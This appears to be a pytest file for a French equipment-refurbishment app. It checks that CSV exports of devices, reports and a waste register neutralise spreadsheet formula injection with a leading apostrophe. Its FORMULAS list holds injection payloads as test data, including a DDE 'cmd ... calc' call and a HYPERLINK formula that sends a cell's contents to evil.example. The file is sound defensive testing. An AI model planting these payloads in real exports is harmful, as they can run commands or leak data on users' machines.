"""Item 6: no CSV export hands a spreadsheet a formula. Text cells starting with = + - @, a tab
or a carriage return get a leading apostrophe (OWASP); numbers stay numbers, negative ones
too. One writer (refurb.documents.csv_export), one test per export of the app."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from sqlalchemy import text

from refurb.documents.csv_export import csv_bytes, french_cell
from refurb.reports.exports import EXPORTS
from tests.reports import report_scene
from tests.weee.helpers import export_register

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
            "+33 1 23 45 67 89", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
NUMBER = re.compile(r"^-?\d+(,\d+)?$")


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_is_neutralised(value):
    assert french_cell(value) == "'" + value


@pytest.mark.parametrize(("value", "cell"), [
    (-3, "-3"), (Decimal("-12.50"), "-12,50"), (-0.25, "-0,25"), (0, "0"),
    ("Dell Latitude", "Dell Latitude"), ("a=b", "a=b"), ("", "")])
def test_numbers_stay_numbers_and_plain_text_stays_plain(value, cell):
    assert french_cell(value) == cell


def test_the_header_row_is_neutralised_too():
    body = csv_bytes(["=titre"], [[1]]).decode("utf-8-sig")
    assert body.splitlines()[0] == "'=titre"


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a trigger, and not a number."""
    return [cell for row in rows for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.match(cell)]


def test_donor_devices_csv(client, db, login_as):
    from tests.factories import make_collection, make_device

    donor = login_as("donor")
    collection = make_collection(donor.donor_organisation)
    make_device(collection=collection, serial=FORMULAS[0], make=FORMULAS[4], model=FORMULAS[1])
    db.session.commit()
    rows = cells(client.get(f"/portal/collections/{collection.id}/devices.csv").get_data())
    assert live_formulas(rows) == []
    assert rows[1][1:5:2] == ["'" + FORMULAS[0], "'" + FORMULAS[4]]
    assert rows[1][4] == "'" + FORMULAS[1]


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_report_exports(client, db, login_as, name, shared_rows):
    scene = shared_rows("reports.scene", report_scene.build)
    # Typed by users, shown in the reports: communes, training titles, donors' names.
    db.session.execute(text("UPDATE beneficiaries SET commune = :v"), {"v": FORMULAS[1]})
    db.session.execute(text("UPDATE training_programmes SET title = :v"), {"v": FORMULAS[0]})
    db.session.execute(text("UPDATE donor_organisations SET name = :v"), {"v": FORMULAS[4]})
    db.session.commit()
    login_as("admin")
    response = client.get(f"/reports/export/{name}.csv?year=2025")
    assert response.status_code == 200
    rows = cells(response.get_data())
    assert live_formulas(rows) == []
    if name == "beneficiaires_commune":
        assert "'" + FORMULAS[1] in {row[0] for row in rows}
    assert scene  # the year has data in every table


def test_waste_register_csv(client, db, login_as):
    from refurb.settings import services as settings
    from tests.weee.helpers import (
        NOW,
        closed_batch,
        configure_site,
        make_disposable,
        make_operator,
    )

    configure_site()
    settings.set_value("weee.site_name", FORMULAS[0], actor_id=None, now=NOW)
    closed_batch([make_disposable()], operator=make_operator(name=FORMULAS[4]),
                 signed_by_name=FORMULAS[3])
    db.session.commit()
    login_as("admin")
    response = export_register(client, "csv", start="2026-01-01", end="2026-12-31")
    rows = cells(response.get_data())
    assert len(rows) == 2
    assert live_formulas(rows) == []
    assert "'" + FORMULAS[4] in rows[1] and "'" + FORMULAS[0] in rows[1]
